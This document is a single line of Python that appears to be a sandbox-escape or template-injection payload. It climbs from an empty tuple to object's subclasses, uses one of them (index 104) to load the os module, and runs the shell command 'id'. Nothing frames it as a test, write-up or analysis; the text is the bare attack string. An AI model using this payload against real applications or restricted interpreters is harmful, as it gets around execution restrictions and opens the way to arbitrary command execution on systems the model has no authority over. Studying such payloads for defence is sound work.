().__class__.__bases__[0].__subclasses__()[104].load_module('os').system('id')
